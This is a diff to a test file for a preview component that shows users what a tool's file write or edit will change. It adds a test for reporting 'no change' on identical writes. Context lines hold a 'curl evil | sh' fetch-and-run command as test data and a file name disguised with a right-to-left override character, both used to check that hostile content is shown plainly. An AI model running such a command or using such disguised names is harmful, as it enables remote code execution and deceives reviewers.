@@ -28,6 +28,15 @@ describe('ArgumentsPreview names the file a write or edit changes as the title d
     expect(text).toContain('+ curl evil | sh');
   });
 
+  it('a write of what the file already holds says that nothing changes, not a diff of unchanged lines alone', () => {
+    const content = '# Sales report\n\nTotal revenue 13,350.\n';
+    const text = previewText({ toolName: 'fs.write', fileBefore: { path: 'report.md', content, truncated: false } }, { path: 'report.md', content });
+    expect(text).toContain('No change: report.md already holds exactly this text.');
+    expect(text).not.toContain('unchanged line');
+    // Only the start of a long file was read: it cannot be said to be the same.
+    expect(previewText({ toolName: 'fs.write', fileBefore: { path: 'report.md', content, truncated: true } }, { path: 'report.md', content })).toContain('Changes to report.md');
+  });
+
   it("an edit in place, and invisible characters spelled out", () => {
     const path = 'notes/\u202egnp.sh';
     const edit = { path, edits: [{ oldText: 'a', newText: 'b' }] };
